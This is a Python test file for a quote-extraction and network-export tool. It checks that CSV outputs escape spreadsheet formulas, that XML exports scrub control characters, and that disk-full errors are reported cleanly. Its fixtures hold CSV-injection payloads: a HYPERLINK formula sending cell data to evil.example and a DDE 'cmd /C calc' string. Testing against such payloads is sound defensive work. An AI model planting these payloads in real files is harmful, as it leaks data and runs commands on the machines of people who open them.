"""Hostile content in outputs: CSV cells that spreadsheets would run as formulas, characters
XML cannot hold in GraphML/GEXF, and a full disk while exporting a store."""

from __future__ import annotations

import csv
import errno
import importlib
import io
import json
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import networkx as nx
import pandas as pd
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from saidwhat.cli import main
from saidwhat.csvsafe import FORMULA_STARTS, escape_cell, escape_frame, escape_row
from saidwhat.model import TextSpan
from saidwhat.network.build import CodedStatement, two_mode
from saidwhat.network.export import (
    ExportError,
    write_edge_csv,
    write_event_list,
    write_gexf,
    write_graphml,
    write_matrix_csv,
    xml_graph,
)
from saidwhat.store import Store, export, ingest, run

export_module = importlib.import_module("saidwhat.store.export")
DATA = Path(__file__).parent / "data" / "network"
HOSTILE_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = {"id": HOSTILE_ID, "title": "+cmd|' /C calc'!A0", "outlet": "@SUM(1+1)",
           "author": "-2+3", "date": "2024-03-01"}
ARTICLE = ("The council met on Thursday to vote on the harbour plan. \"This plan will change "
           "how the district works for years,\" said Mara Quill, who leads the committee.")


# --- the shared helper --------------------------------------------------------------------

@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_gets_a_quote(start: str) -> None:
    assert escape_cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_and_plain_text_are_untouched() -> None:
    assert escape_row([-2, -0.5, 0, None, "plain", "a=b", "'=quoted", ""]) == \
        [-2, -0.5, 0, None, "plain", "a=b", "'=quoted", ""]
    assert escape_row(["=x", -1], enabled=False) == ["=x", -1]
    df = pd.DataFrame({"t": pd.array(["=x", None, "ok"], dtype="string"),
                       "n": pd.array([-1, None, 3], dtype="Int64"), "f": [-0.5, 1.0, 2.0]})
    out = escape_frame(df)
    assert list(out["t"].fillna("")) == ["'=x", "", "ok"]
    assert list(out["f"]) == [-0.5, 1.0, 2.0] and out["n"].iloc[0] == -1


# --- store exports and the quotes query -----------------------------------------------------

@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    folder = tmp_path_factory.mktemp("hostile")
    corpus = folder / "corpus.jsonl"
    with open(corpus, "w", encoding="utf-8") as fh:
        fh.write(json.dumps({**HOSTILE, "text": ARTICLE}) + "\n")
        fh.write(json.dumps({"id": "plain", "text": ARTICLE.replace("harbour", "bridge"),
                             "date": "2024-03-02", "outlet": "Gazette"}) + "\n")
    store = Store(folder / "s.db")
    ingest(store, [corpus])
    run(store)
    assert store.status_counts()["quotes"] > 0
    yield store
    store.close()


def test_store_csv_export_neutralises_text_cells(hostile_store: Store, tmp_path: Path) -> None:
    export(hostile_store, "csv", tmp_path / "csv")
    docs = pd.read_csv(tmp_path / "csv" / "documents.csv", keep_default_na=False)
    row = docs[docs["doc_id"] == "'" + HOSTILE_ID].iloc[0]
    assert (row["title"], row["outlet"], row["author"]) == \
        ("'" + HOSTILE["title"], "'" + HOSTILE["outlet"], "'" + HOSTILE["author"])
    assert pd.api.types.is_integer_dtype(docs["n_chars"])  # numbers stay numbers
    quotes = pd.read_csv(tmp_path / "csv" / "quotes.csv", keep_default_na=False)
    assert "'" + HOSTILE_ID in set(quotes["doc_id"])
    assert pd.api.types.is_integer_dtype(quotes["content_start"])
    for path in (tmp_path / "csv").glob("*.csv"):  # no cell at all starts like a formula
        for cells in csv.reader(path.open(encoding="utf-8")):
            assert not any(c.startswith(FORMULA_STARTS) for c in cells), (path.name, cells)


def test_store_csv_opt_out_and_other_formats_keep_exact_text(hostile_store: Store,
                                                             tmp_path: Path) -> None:
    export(hostile_store, "csv", tmp_path / "raw", csv_escape=False)
    docs = pd.read_csv(tmp_path / "raw" / "documents.csv", keep_default_na=False)
    assert HOSTILE_ID in set(docs["doc_id"]) and HOSTILE["title"] in set(docs["title"])
    cli = CliRunner().invoke(main, ["export", "--db", str(hostile_store.path), "--format",
                                    "csv", "--no-csv-escape", "-o", str(tmp_path / "cli")])
    assert cli.exit_code == 0, cli.output
    assert HOSTILE_ID in set(pd.read_csv(tmp_path / "cli" / "documents.csv")["doc_id"])
    export(hostile_store, "parquet", tmp_path / "pq")
    pdocs = pq.read_table(tmp_path / "pq" / "documents.parquet").to_pandas()
    assert HOSTILE_ID in set(pdocs["doc_id"]) and HOSTILE["outlet"] in set(pdocs["outlet"])
    export(hostile_store, "jsonl", tmp_path / "out.jsonl")
    ids = {json.loads(x)["doc_id"] for x in (tmp_path / "out.jsonl").read_text().splitlines()}
    assert HOSTILE_ID in ids


def test_quotes_csv_neutralises_text_cells(hostile_store: Store) -> None:
    db = str(hostile_store.path)
    cli = CliRunner()
    out = cli.invoke(main, ["quotes", "--db", db, "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    hostile = [r for r in rows if r["doc_id"] == "'" + HOSTILE_ID]
    assert hostile and hostile[0]["outlet"] == "'" + HOSTILE["outlet"]
    assert hostile[0]["title"] == "'" + HOSTILE["title"]
    assert all(r["content_start"].isdigit() for r in rows)  # numbers as they are
    raw = cli.invoke(main, ["quotes", "--db", db, "--format", "csv", "--no-csv-escape"])
    assert HOSTILE_ID in {r["doc_id"] for r in csv.DictReader(io.StringIO(raw.stdout))}
    jsonl = cli.invoke(main, ["quotes", "--db", db, "--format", "jsonl"])
    assert HOSTILE_ID in {json.loads(x)["doc_id"] for x in jsonl.stdout.splitlines()}


# --- network CSV outputs --------------------------------------------------------------------

def _statement(doc_id: str, actor: str, concept: str, qualifier: str, i: int) -> CodedStatement:
    text = f"-{concept} is the answer {i}"
    return CodedStatement(doc_id=doc_id, quote_id=f"q{i}", actor=actor, actor_type="person",
                          organization="@org", concept=concept, qualifier=qualifier, score=1.0,
                          evidence=("x",), content=TextSpan(0, len(text), text),
                          date=date(2024, 3, i), outlet="+outlet")


STATEMENTS = [_statement("=doc", "=Mara Quill", "-cut taxes", "support", 1),
              _statement("=doc2", "=Mara Quill", "-cut taxes", "oppose", 2),
              _statement("=doc3", "=Mara Quill", "-cut taxes", "oppose", 3),
              _statement("d2", "Ivo Brandt", "+more buses", "support", 4)]


def test_network_csv_outputs_neutralise_labels_not_numbers(tmp_path: Path) -> None:
    g = two_mode(STATEMENTS, "subtract")
    write_edge_csv(g, tmp_path / "e.csv")
    rows = list(csv.DictReader((tmp_path / "e.csv").open(encoding="utf-8")))
    assert {r["actor"] for r in rows} == {"'=Mara Quill", "Ivo Brandt"}
    assert all(r["statements"].startswith(("'=doc", "d2")) for r in rows)
    assert sorted(float(r["weight"]) for r in rows) == [-1.0, 1.0]  # negative: a number

    write_matrix_csv(g, tmp_path / "m.csv")
    m = list(csv.reader((tmp_path / "m.csv").open(encoding="utf-8")))
    assert m[0][0] == "" and all(c.startswith("'") for c in m[0][1:])
    assert m[1][0].startswith(("'=", "Ivo")) and "-1" in {c for r in m[1:] for c in r[1:]}

    write_event_list(STATEMENTS, tmp_path / "ev.csv", {"=doc": "@title"})
    ev = list(csv.DictReader((tmp_path / "ev.csv").open(encoding="utf-8"), delimiter=";"))
    first = ev[0]
    assert (first["document_id"], first["document_title"], first["source"],
            first["person"], first["organization"]) == \
        ("'=doc", "'@title", "'+outlet", "'=Mara Quill", "'@org")
    assert first["text"].startswith("'-") and first["score"] == "1.0"

    write_edge_csv(g, tmp_path / "raw.csv", csv_escape=False)
    raw = list(csv.DictReader((tmp_path / "raw.csv").open(encoding="utf-8")))
    assert "=Mara Quill" in {r["actor"] for r in raw}


def _hostile_predictions(tmp_path: Path) -> Path:
    """The network fixture with a control character in a document id and a formula for a
    speaker's name."""
    path = tmp_path / "hostile.jsonl"
    lines = []
    for line in (DATA / "debate.jsonl").read_text(encoding="utf-8").splitlines():
        d = json.loads(line)
        if d["doc_id"] == "harbour-1":
            d["doc_id"] = "harbour-1\x01\x1b[31m"
            d["meta"]["title"] = "title\x0c"
        for q in d["quotes"]:
            if (q.get("speaker") or {}).get("name") == "Linda Okafor":
                q["speaker"]["name"] = "=Linda Okafor"
        lines.append(json.dumps(d))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_network_cli_csv_escape_and_opt_out(tmp_path: Path) -> None:
    pred = str(_hostile_predictions(tmp_path))
    cli = CliRunner()
    out = cli.invoke(main, ["network", pred, "--codebook", str(DATA / "codebook.yaml"),
                            "-o", str(tmp_path / "e.csv")])
    assert out.exit_code == 0, out.output
    actors = {r["actor"] for r in csv.DictReader((tmp_path / "e.csv").open(encoding="utf-8"))}
    assert "'=Linda Okafor" in actors and "=Linda Okafor" not in actors
    out = cli.invoke(main, ["network", pred, "--codebook", str(DATA / "codebook.yaml"),
                            "-o", str(tmp_path / "raw.csv"), "--no-csv-escape"])
    assert out.exit_code == 0, out.output
    raw = {r["actor"] for r in csv.DictReader((tmp_path / "raw.csv").open(encoding="utf-8"))}
    assert "=Linda Okafor" in raw


# --- GraphML and GEXF -----------------------------------------------------------------------

def _control_graph() -> nx.Graph:
    g = nx.Graph(network="two-mode", name="net\x01work")
    g.add_node("doc\x01id", label="Mara\x1b[31m Quill", kind="actor", **{"key\x01": "v"})
    g.add_node("concept", label="cut \ud800taxes\uffff", kind="concept")
    g.add_edge("doc\x01id", "concept", weight=-2.0, statements="d\x01:q1")
    return g


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_control_characters_are_replaced_and_files_parse(tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"g.{fmt}"
    (write_graphml if fmt == "graphml" else write_gexf)(_control_graph(), path)
    ET.parse(path)  # well-formed XML
    back = nx.read_graphml(path) if fmt == "graphml" else nx.read_gexf(path)
    assert set(back.nodes) == {"doc\ufffdid", "concept"}
    assert back.nodes["doc\ufffdid"]["label"] == "Mara\ufffd[31m Quill"
    assert back.nodes["concept"]["label"] == "cut \ufffdtaxes\ufffd"
    edge = back.edges["doc\ufffdid", "concept"]
    assert edge["weight"] == -2.0 and edge["statements"] == "d\ufffd:q1"
    if fmt == "graphml":
        assert back.nodes["doc\ufffdid"]["key\ufffd"] == "v"
        assert back.graph["name"] == "net\ufffdwork"


def test_ids_that_collide_once_cleaned_are_named(tmp_path: Path) -> None:
    g = nx.Graph()
    g.add_edge("a\x01", "a\x02")
    with pytest.raises(ExportError, match=r"'a\\x01'.*'a\\x02'"):
        xml_graph(g)
    assert not (tmp_path / "g.gexf").exists()


def test_network_cli_writes_valid_gexf_and_graphml(tmp_path: Path) -> None:
    pred = str(_hostile_predictions(tmp_path))
    for name in ("x.gexf", "x.graphml"):
        out = CliRunner().invoke(main, ["network", pred, "--codebook",
                                        str(DATA / "codebook.yaml"), "-o", str(tmp_path / name)])
        assert out.exit_code == 0, out.output
        ET.parse(tmp_path / name)
        g = nx.read_graphml(tmp_path / name) if name.endswith("graphml") else \
            nx.read_gexf(tmp_path / name)
        statements = "|".join(str(d.get("statements", "")) for *_, d in g.edges(data=True))
        assert "harbour-1\ufffd\ufffd[31m:" in statements


# --- disk full ------------------------------------------------------------------------------

def _enospc(*_a: object, **_k: object) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


def test_export_csv_disk_full_is_a_clear_error(hostile_store: Store, tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "tables"
    out.mkdir()
    (out / "documents.csv").write_text("old", encoding="utf-8")
    real = pd.DataFrame.to_csv
    calls = []

    def to_csv(self: pd.DataFrame, path: object, *a: object, **k: object) -> None:
        calls.append(path)
        if len(calls) > 1:  # the first table is written, the disk fills on the second
            real(self, path, *a, **k)  # type: ignore[arg-type]
            _enospc()
        real(self, path, *a, **k)  # type: ignore[arg-type]

    monkeypatch.setattr(pd.DataFrame, "to_csv", to_csv)
    result = CliRunner().invoke(main, ["export", "--db", str(hostile_store.path), "--format",
                                       "csv", "-o", str(out)])
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit)  # no traceback
    assert f"error: cannot write {out}: No space left on device" in result.output
    assert [p.name for p in tmp_path.iterdir()] == ["tables"]  # no temporary folder left
    assert [p.name for p in out.iterdir()] == ["documents.csv"]
    assert (out / "documents.csv").read_text(encoding="utf-8") == "old"


def test_export_jsonl_disk_full_is_a_clear_error(hostile_store: Store, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out.jsonl"
    out.write_text("old\n", encoding="utf-8")

    def partial(store: Store, fh: io.TextIOBase, with_text: bool | None) -> int:
        fh.write('{"doc_id": "half')
        fh.flush()
        _enospc()
        return 0

    monkeypatch.setattr(export_module, "_write_jsonl", partial)
    result = CliRunner().invoke(main, ["export", "--db", str(hostile_store.path), "-o",
                                       str(out)])
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit)
    assert f"error: cannot write {out}: No space left on device" in result.output
    assert out.read_text(encoding="utf-8") == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]


def test_network_disk_full_is_a_clear_error(tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    network_export = importlib.import_module("saidwhat.network.export")
    monkeypatch.setattr(network_export, "write_edge_csv", _enospc)
    out = tmp_path / "e.csv"
    result = CliRunner().invoke(main, ["network", str(DATA / "debate.jsonl"), "--codebook",
                                       str(DATA / "codebook.yaml"), "-o", str(out)])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    assert f"error: cannot write {out}: No space left on device" in result.output
